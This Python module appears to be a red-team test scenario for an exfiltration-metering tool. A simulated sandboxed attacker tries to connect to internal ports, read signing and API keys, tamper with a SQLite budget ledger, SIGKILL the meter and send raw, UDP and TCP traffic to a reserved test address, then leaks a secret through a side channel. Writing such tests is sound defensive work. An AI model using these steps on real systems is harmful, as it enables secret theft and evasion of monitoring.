"""Scenario `same-host`: the attacker owns the inside process that `exfilguard up` started, and tries
to get around the meter on the same machine.

The supervisor, the meter, the outside and the dashboard are the real ones (supervise/up.py); only
the inside's program is replaced by this one, started exactly as `up` starts the inside (in the
same sandbox, with the same socket). Told everything an attacker could want (every port, the
meter's pid, every path), it tries in order:

  1. connect to the outside's, the meter's, the meter's metrics and the dashboard's TCP ports
     (on 127.0.0.1 and the host's other addresses);
  2. read the meter's signing key, the API keys, the request log;
  3. write or roll back the ledger (open it for writing, SQL UPDATE, replace the file, delete the -wal);
  4. kill the meter (SIGKILL to its pid, after looking for it in /proc);
  5. open a raw socket (AF_INET SOCK_RAW, AF_PACKET) and send to any address (UDP, TCP out).

Each attempt is reported as one JSON line on stdout (`same-host attempt: {...}`, "ok": true when
it worked). Then it serves its only channel: a colluder who connects to the meter with RAW_MAGIC
gets the secret as raw bytes, as many as the meter lets through (bytes recovered <= cap).

Run as `python -m exfilguard.redteam.samehost --targets JSON --secret-hex HEX --listen unix:PATH`.
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import json
import os
import signal
import socket
import sqlite3
from dataclasses import asdict, dataclass, field
from typing import Any

from exfilguard.redteam.attacker import RAW_MAGIC

ATTEMPT_PREFIX = "same-host attempt: "
READY_LINE = "inside worker listening on"  # what `up` waits for


@dataclass
class Targets:
    """What the attacker is told about the host: the worst case, it knows everything."""

    tcp: dict[str, list[int]]  # name -> ports (outside, meter, metrics, dashboard)
    addresses: list[str]  # the host's addresses to try them on (127.0.0.1 and the others)
    meter_pid: int
    supervisor_pid: int
    files_read: dict[str, str]  # name -> path (meter key, API keys, request log)
    ledger: str  # path of the SQLite ledger
    # TEST-NET-1 (RFC 5737): routed by a host with a default route, owned by nobody, so no third party is touched.
    outbound: list[tuple[str, int]] = field(default_factory=lambda: [("192.0.2.1", 9)])


@dataclass
class Attempt:
    """One thing the attacker tried, and what happened."""

    step: int
    what: str
    ok: bool  # True: it worked (a wall is missing)
    detail: str

    def line(self) -> str:
        return ATTEMPT_PREFIX + json.dumps(asdict(self))


def _err(exc: BaseException) -> str:
    return f"{type(exc).__name__}: {getattr(exc, 'strerror', None) or exc}"


def try_everything(t: Targets) -> list[Attempt]:
    """Run every attempt, in the scenario's order; never raise."""
    out: list[Attempt] = []

    def attempt(step: int, what: str, fn: Any) -> None:
        try:
            detail = fn()
            out.append(Attempt(step, what, True, str(detail)))
        except Exception as exc:  # noqa: BLE001 - every failure is the expected outcome
            out.append(Attempt(step, what, False, _err(exc)))

    # 1. The other components' TCP ports, directly.
    for name, ports in t.tcp.items():
        for port in ports:
            for host in t.addresses:
                def connect(host: str = host, port: int = port) -> str:
                    with socket.create_connection((host, port), timeout=2):
                        return "connected"
                attempt(1, f"connect to the {name} at {host}:{port}", connect)
    # 2. Secrets on disk.
    for name, path in t.files_read.items():
        def read(path: str = path) -> str:
            with open(path, "rb") as f:
                return f"read {len(f.read())} bytes"
        attempt(2, f"read the {name} ({path})", read)
    # 3. The ledger: write, rewrite, roll back, cut its WAL.
    led = t.ledger

    def open_write() -> str:
        with open(led, "r+b") as f:
            f.seek(0, 2)
            f.write(b"\0")
        return "appended a byte"

    def sql_update() -> str:
        db = sqlite3.connect(f"file:{led}?mode=rw", uri=True, timeout=2)
        try:
            db.execute("UPDATE budgets SET cap_bytes = cap_bytes * 2")
            db.commit()
        finally:
            db.close()
        return "cap doubled"

    def rollback() -> str:
        tmp = led + ".attacker"
        with open(tmp, "wb") as f:
            f.write(b"SQLite format 3\0")
        os.replace(tmp, led)
        return "ledger replaced"

    def cut_wal() -> str:
        os.unlink(led + "-wal")
        return "-wal deleted"

    attempt(3, "open the ledger for writing", open_write)
    attempt(3, "UPDATE the ledger's budgets", sql_update)
    attempt(3, "roll the ledger back (replace the file)", rollback)
    attempt(3, "delete the ledger's -wal", cut_wal)
    # 4. The meter's process.
    def see_meter() -> str:
        with open(f"/proc/{t.meter_pid}/cmdline", "rb") as f:
            cmd = f.read().replace(b"\0", b" ")
        if b"meter" not in cmd:
            raise ProcessLookupError(f"pid {t.meter_pid} here is not the meter: {cmd[:60]!r}")
        return f"saw {cmd[:80]!r}"

    def kill(pid: int) -> str:
        os.kill(pid, signal.SIGKILL)
        return f"SIGKILL sent to {pid}"

    attempt(4, f"see the meter in /proc ({t.meter_pid})", see_meter)
    # Only signal a pid that is the meter as seen from here: in its own PID namespace the number may be another process.
    if out[-1].ok:
        attempt(4, f"kill -9 the meter ({t.meter_pid})", lambda: kill(t.meter_pid))
    else:
        attempt(4, f"kill -9 the meter ({t.meter_pid})", lambda: _kill_if_visible(t.meter_pid))
    # 5. Raw sockets and any route out.
    def raw_ip() -> str:
        with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as s:
            s.sendto(b"\x45" + b"\0" * 19, ("192.0.2.1", 0))
        return "raw IP packet sent"

    def raw_packet() -> str:
        with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)):
            return "AF_PACKET socket opened"

    attempt(5, "open a raw IP socket and send", raw_ip)
    attempt(5, "open an AF_PACKET socket", raw_packet)
    for host, port in t.outbound:
        def udp(host: str = host, port: int = port) -> str:
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
                s.sendto(b"exfil", (host, port))
            return "datagram sent"

        def tcp(host: str = host, port: int = port) -> str:
            with socket.create_connection((host, port), timeout=2):
                return "connected"
        attempt(5, f"send UDP to {host}:{port}", udp)
        attempt(5, f"connect TCP to {host}:{port}", tcp)
    return out


def _kill_if_visible(pid: int) -> str:
    """SIGKILL `pid` only if it exists here and is not part of our own sandbox (never kill ourselves)."""
    if pid in (os.getpid(), os.getppid(), 1):
        raise ProcessLookupError(f"pid {pid} is this sandbox's own process here: the real one is not visible")
    os.kill(pid, signal.SIGKILL)
    return f"SIGKILL sent to {pid}"


async def serve_raw(listen: str, secret: bytes) -> None:
    """The only channel left: answer a RAW_MAGIC connection with the asked-for slice of the secret."""
    from exfilguard.endpoint import parse_endpoint, wait_for_signal

    async def on_connect(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        try:
            head = await reader.readexactly(len(RAW_MAGIC) + 16)
            if head.startswith(RAW_MAGIC):
                body = head[len(RAW_MAGIC):]
                off, n = int.from_bytes(body[:8], "big"), int.from_bytes(body[8:16], "big")
                data = secret[off : off + n]
                for i in range(0, len(data), 4096):
                    writer.write(data[i : i + 4096])
                    await writer.drain()
        except (asyncio.IncompleteReadError, ConnectionError, OSError):
            pass
        finally:
            writer.close()

    where = parse_endpoint(listen)
    if where.path is not None:
        srv = await asyncio.start_unix_server(on_connect, where.path)
    else:
        srv = await asyncio.start_server(on_connect, where.host, where.port)
    print(f"{READY_LINE} {where} (attacker: same-host)", flush=True)
    try:
        await wait_for_signal()
    finally:
        srv.close()
        with contextlib.suppress(Exception):
            await srv.wait_closed()


def main(argv: list[str] | None = None) -> None:
    """The attacker's inside: every attempt, then the raw channel until SIGTERM."""
    ap = argparse.ArgumentParser(prog="exfilguard.redteam.samehost")
    ap.add_argument("--targets", required=True, help="Targets as JSON")
    ap.add_argument("--secret-hex", required=True)
    ap.add_argument("--listen", required=True)
    args = ap.parse_args(argv)
    t = json.loads(args.targets)
    targets = Targets(tcp=t["tcp"], addresses=t["addresses"], meter_pid=t["meter_pid"], supervisor_pid=t["supervisor_pid"],
                      files_read=t["files_read"], ledger=t["ledger"], outbound=[(h, int(p)) for h, p in t["outbound"]])
    for a in try_everything(targets):
        print(a.line(), flush=True)
    asyncio.run(serve_raw(args.listen, bytes.fromhex(args.secret_hex)))


if __name__ == "__main__":
    main()
